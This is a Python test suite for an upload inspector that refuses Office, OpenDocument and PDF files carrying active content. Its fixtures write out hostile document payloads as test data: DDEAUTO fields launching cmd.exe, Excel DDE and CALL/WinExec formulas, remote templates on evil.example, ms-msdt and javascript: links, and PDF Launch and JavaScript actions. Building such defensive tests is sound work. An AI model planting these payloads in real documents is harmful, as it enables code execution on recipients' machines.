"""What is in a file: nothing that runs or loads is accepted, and no metadata is kept."""

from collections.abc import Mapping
from io import BytesIO
from itertools import pairwise
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.files.rules.file_types import DOCX, ODS, ODT, XLSX
from bot.files.rules.inspection import inspected
from bot.files.rules.refusals import Refusal, Refused
from bot.files.rules.word_fields import HARMLESS, Fields
from bot.files.rules.xml_parts import LARGEST_PART
from bot.plan.rules.document import FileFormat
from tests.helpers.documents import DOCUMENTS
from tests.helpers.files import JPEG, PDF, office, open_document, packed
from tests.helpers.plan_documents import full_plan

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refusal_of(content: bytes) -> Refusal | None:
    """None where it is accepted."""
    try:
        inspected(content)
    except Refused as refused:
        return refused.refusal
    return None


def word(body: str = "", parts: Mapping[str, str | bytes] | None = None) -> bytes:
    types = (
        f'<Types><Override PartName="/word/document.xml" ContentType="{DOCX}.main+xml"/></Types>'
    )
    document = f"<w:document {W}>{body}</w:document>"
    return packed({"[Content_Types].xml": types, "word/document.xml": document, **(parts or {})})


def sheet(formula: str, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    cells = f"<sheetData><c><f>{formula}</f></c></sheetData>"
    return office(XLSX, "xl/workbook.xml", **{name: cells})


def related(kind: str, target: str, mode: str = "External") -> dict[str, str]:
    link = f'<Relationship Id="r" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{link}</Relationships>"}


def complex_field(*pieces: str) -> str:
    texts = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"{_char('begin')}{texts}{_char('separate')}<w:r><w:t>1</w:t></w:r>{_char('end')}"


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def nested_field() -> str:
    """Only Word puts together what it says: { { QUOTE 68 68 69 } c:\\x }."""
    inner = complex_field("QUOTE 68 68 69 65 85 84 79")
    return f"{_char('begin')}{inner}<w:r><w:instrText> c:\\x</w:instrText></w:r>{_char('end')}"


def pdf_with(change: Any) -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        content = BytesIO()
        document.save(content)
    return content.getvalue()


def _at_start(**action: Any) -> Any:
    def change(document: pikepdf.Pdf) -> None:
        entries = {f"/{key}": value for key, value in action.items()}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(entries))

    return change


def _at_click(**action: Any) -> Any:
    def change(document: pikepdf.Pdf) -> None:
        entries = pikepdf.Dictionary({f"/{key}": value for key, value in action.items()})
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=entries)
        document.pages[0].Annots = pikepdf.Array([link])

    return change


def _embedded(document: pikepdf.Pdf) -> None:
    document.attachments["invoice.exe"] = b"MZ"


def _hidden(document: pikepdf.Pdf) -> None:
    """No page leads to it."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.PieceInfo = pikepdf.Array([document.make_indirect(script)])


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([]))


def _film(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)])


def _at_closing(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://x.example"))
    document.Root.AA = pikepdf.Dictionary(WC=action)


def _elsewhere(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = pikepdf.String("\\\\evil\\x")
    document.pages[0].Contents = stream


N = pikepdf.Name
ACTIVE = {
    "Word: a template from elsewhere": word(
        parts={
            "word/_rels/settings.xml.rels": f'<R><Relationship Type="{REL}/attachedTemplate"'
            ' Target="https://evil.example/a.dotm" TargetMode="External"/></R>',
        }
    ),
    "Word: DDEAUTO": word(complex_field("DDEAUTO c:\\windows\\system32\\cmd.exe")),
    "Word: DDE in pieces": word(complex_field("D", "D", "E c:\\x")),
    "Word: DDE in small letters": word(complex_field(" dde c:\\x")),
    "Word: DDE in one element": word('<w:fldSimple w:instr="DDEAUTO c:\\x"/>'),
    "Word: DDE that a field puts together": word(nested_field()),
    "Word: DDE without an end": word(f"{_char('begin')}<w:instrText>DDE x</w:instrText>"),
    "Word: DDE in a footnote": word(
        parts={"word/footnotes.xml": f"<w:f {W}>{complex_field('DDEAUTO x')}</w:f>"}
    ),
    "Word: DDE in UTF-16": packed(
        {
            "[Content_Types].xml": f'<T><O ContentType="{DOCX}.main+xml"/></T>',
            "word/document.xml": (
                f'<?xml version="1.0" encoding="utf-16"?><d {W}>'
                f"{complex_field('DDEAUTO x')}</d>"
            ).encode("utf-16"),
        }
    ),
    "Word: a picture that is loaded": word(complex_field('INCLUDEPICTURE "http://x.example/a"')),
    "Word: a link to a program": word(complex_field('HYPERLINK "file://evil/x.exe"')),
    "Word: altChunk": word('<w:altChunk r:id="r" xmlns:r="x"/>'),
    "Word: an embedded object": word("<w:object><o:OLEObject xmlns:o='x'/></w:object>"),
    "Word: a control": word("<w:control/>"),
    "Word: letters merged with a source": word("<w:mailMerge/>"),
    "Word: an entity": packed(
        {
            "[Content_Types].xml": f'<T><O ContentType="{DOCX}.main+xml"/></T>',
            "word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
        }
    ),
    "Word: a part named twice": word(parts={"WORD/document.xml": "<y/>",
        }
    ),
    **{
        f"Word: {kind} to {target}": word(parts=related(kind, target, mode)
        )
        for kind, target, mode in (
            ("image", "https://evil.example/a.png", "External"),
            ("image", "https://evil.example/a.png", "Internal"),
            ("image", "\\\\evil\\a.png", "Internal"),
            ("oleObject", "https://evil.example/x", "External"),
            ("oleObject", "other/x.bin", "Internal"),
            ("package", "other/x.xlsx", "Internal"),
            ("aFChunk", "other/x.html", "Internal"),
            ("frame", "https://evil.example", "External"),
            ("subDocument", "x.docx", "External"),
            ("hyperlink", "file:///c:/x.exe", "External"),
            ("hyperlink", "\\\\evil\\x", "External"),
            ("hyperlink", "ms-msdt:/id", "External"),
            ("hyperlink", "javascript:alert(1)", "External"),
        )
    },
    **{
        f"Word: the part {name}": word(parts={name: "x",
            }
        )
        for name in (
            "word/embeddings/object1.bin",
            "word/embeddings/Microsoft_Excel_Sheet.xlsx",
            "word/Embeddings/a",
            "word/webextensions/taskpanes.xml",
            "customUI/customUI.xml",
            "../evil.xml",
            "word\\evil.xml",
        )
    },
    "Excel: DDE": sheet("cmd|'/c calc'!A0"),
    "Excel: DDE after a string": sheet('"a"&amp;cmd|\'/c calc\'!A0'),
    "Excel: a function that loads": sheet('_xlfn.WEBSERVICE("https://evil.example")'),
    "Excel: a function that calls": sheet('CALL("kernel32","WinExec","JCJ","calc",0)'),
    "Excel: DDE in a part that is called a picture": sheet("cmd|'/c calc'!A0", "xl/media/a.png"),
    "Excel: links to other books": office(
        XLSX, "xl/workbook.xml", **{"xl__externalLinks__externalLink1.xml": "<x/>"}
    ),
    "Excel: a DDE link": office(
        XLSX, "xl/workbook.xml", **{"xl__other.xml": "<externalLink><ddeLink/></externalLink>"}
    ),
    "Excel: sources of data": office(XLSX, "xl/workbook.xml", **{"xl__connections.xml": "<x/>"}),
    "Excel: a name that starts a program": office(
        XLSX, "xl/workbook.xml",
        **{"xl__names.xml": "<x><definedName>cmd|'/c x'!A</definedName></x>"},
    ),
    "Excel: a button with a program": office(
        XLSX, "xl/workbook.xml", **{"xl__drawings__d.xml": '<sp macro="[1]!x"/>'}
    ),
    "OpenDocument: a script": open_document(ODT, **{"styles.xml": "<x><script/></x>"}),
    "OpenDocument: an event": open_document(ODT, **{"styles.xml": "<x><event-listener/></x>"}),
    "OpenDocument: DDE": open_document(ODS, **{"styles.xml": "<x><dde-source/></x>"}),
    "OpenDocument: a DDE formula": open_document(
        ODS, **{"styles.xml": '<c formula="of:=DDE(&quot;a&quot;)"/>'}
    ),
    "OpenDocument: a loaded picture": open_document(
        ODT, **{"styles.xml": '<image href="https://evil.example/a"/>'}
    ),
    "OpenDocument: a link to a file": open_document(
        ODT, **{"styles.xml": '<a href="file:///c:/x.exe"/>'}
    ),
    "OpenDocument: an OLE object": open_document(ODT, **{"styles.xml": "<object-ole/>"}),
    "PDF: JavaScript at opening": pdf_with(_at_start(S=N.JavaScript, JS=pikepdf.String("x"))),
    "PDF: a web page at opening": pdf_with(_at_start(S=N.URI, URI=pikepdf.String("https://x.dk"))),
    "PDF: a program": pdf_with(_at_click(S=N.Launch, F=pikepdf.String("cmd.exe"))),
    "PDF: another file": pdf_with(_at_click(S=N.GoToR, F=pikepdf.String("\\\\evil\\x"))),
    "PDF: an embedded file's place": pdf_with(_at_click(S=N.GoToE)),
    "PDF: a form that is sent": pdf_with(_at_click(S=N.SubmitForm, F=pikepdf.String("x"))),
    "PDF: a link to a program": pdf_with(_at_click(S=N.URI, URI=pikepdf.String("file:///x"))),
    "PDF: a link to a script": pdf_with(
        _at_click(S=N.URI, URI=pikepdf.String("javascript:alert(1)"))
    ),
    "PDF: an embedded file": pdf_with(_embedded),
    "PDF: a script that no page leads to": pdf_with(_hidden),
    "PDF: a form of XML": pdf_with(_form),
    "PDF: a film": pdf_with(_film),
    "PDF: something at closing": pdf_with(_at_closing),
    "PDF: content in another file": pdf_with(_elsewhere),
}  # fmt: skip


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE.keys())
def test_active_content_is_refused(content: bytes) -> None:
    assert refusal_of(content) is Refusal.ACTIVE


HARMLESS_FILES = {
    "Word: page numbers, a table of contents, links": word(
        complex_field(" PA", "GE ")
        + complex_field('TOC \\o "1-3" \\h')
        + complex_field('HYPERLINK "https://www.ballerup.dk"')
        + complex_field('HYPERLINK \\l "_Toc1"')
        + complex_field(" ")
        + '<w:fldSimple w:instr=" NUMPAGES "/>'
    ),
    "Word: a link to the web": word(parts=related("hyperlink", "https://www.ballerup.dk")),
    "Excel: sums": sheet('SUM(A1:A9)*IF(A1="cmd|x!A",1,2)'),
    "OpenDocument: a link and an empty list of scripts": open_document(
        ODT, **{"styles.xml": '<x><scripts/><a href="https://www.ballerup.dk"/></x>'}
    ),
    "PDF: a link": pdf_with(_at_click(S=N.URI, URI=pikepdf.String("https://www.ballerup.dk"))),
    "PDF: a link without a scheme": pdf_with(
        _at_click(S=N.URI, URI=pikepdf.String("www.ballerup.dk"))
    ),
    "PDF: opens on a page": pdf_with(_at_start(S=N.GoTo, D=pikepdf.String("start"))),
}


@pytest.mark.parametrize("content", HARMLESS_FILES.values(), ids=HARMLESS_FILES.keys())
def test_what_does_nothing_by_itself_is_accepted(content: bytes) -> None:
    assert refusal_of(content) is None


def test_word_file_as_word_makes_it_is_accepted() -> None:
    document = docx.Document()
    document.add_heading("Min plan")
    document.add_picture(BytesIO(JPEG))
    document.add_table(2, 2)
    content = BytesIO()
    document.save(content)
    assert inspected(content.getvalue()).content == content.getvalue()


@pytest.mark.parametrize("name", sorted(HARMLESS))
def test_harmless_field_is_accepted_with_anything_after_it(name: str) -> None:
    fields = Fields()
    fields.simple(f" {name.upper()} " if name == "hyperlink" else f" {name.upper()} x")
    assert not fields.is_active


@given(
    st.sampled_from(["DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "LINK", "IMPORT", "RD"]),
    st.lists(st.integers(0, 12), max_size=4),
    st.booleans(),
    st.integers(0, 3),
)
def test_dangerous_field_is_found_however_it_is_cut(
    name: str, cuts: list[int], lower: bool, depth: int
) -> None:
    instruction = f"{name.lower() if lower else name} c:\\x"
    places = [0, *sorted(min(cut, len(instruction)) for cut in cuts), len(instruction)]
    fields = Fields()
    for _ in range(depth):  # inside the results of harmless fields
        fields.begin()
        fields.instruction("IF")
        fields.separate()
    fields.begin()
    for start, end in pairwise(places):
        fields.instruction(instruction[start:end])
    fields.separate()
    for _ in range(depth + 1):
        fields.end()
    assert fields.is_active


# --- locked, broken, and far too large files


def test_locked_pdf_is_refused_and_one_locked_against_changes_is_unlocked() -> None:
    def locked(user: str) -> bytes:
        content = BytesIO()
        with pikepdf.open(BytesIO(PDF)) as document:
            document.save(content, encryption=pikepdf.Encryption(owner="o", user=user))
        return content.getvalue()

    assert refusal_of(locked("secret")) is Refusal.ACTIVE
    with pikepdf.open(BytesIO(inspected(locked("")).content)) as document:
        assert not document.is_encrypted and len(document.pages) == 1


def test_pdf_is_written_anew_without_what_surrounds_it() -> None:
    found = inspected(PDF + packed({"x.exe": "MZ"}) + b"<script>")
    assert b"x.exe" not in found.content and b"<script>" not in found.content
    assert inspected(found.content) == found


def test_pdf_with_nothing_in_it_is_refused() -> None:
    assert refusal_of(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF") is Refusal.KIND


def test_office_file_that_is_a_bomb_is_refused() -> None:
    content = BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<T><O ContentType="{DOCX}.main+xml"/></T>')
        archive.writestr("word/document.xml", b"<x>" + b" " * LARGEST_PART + b"</x>")
    assert len(content.getvalue()) < 1_000_000
    assert refusal_of(content.getvalue()) is Refusal.ACTIVE


@pytest.mark.parametrize("form", ["pdf", "docx"])
async def test_our_own_plan_comes_back(form: FileFormat) -> None:
    """Somebody takes the plan along, changes it and sends it."""
    plan = await DOCUMENTS.draw(full_plan(form), "ar")
    assert refusal_of(plan.content) is None
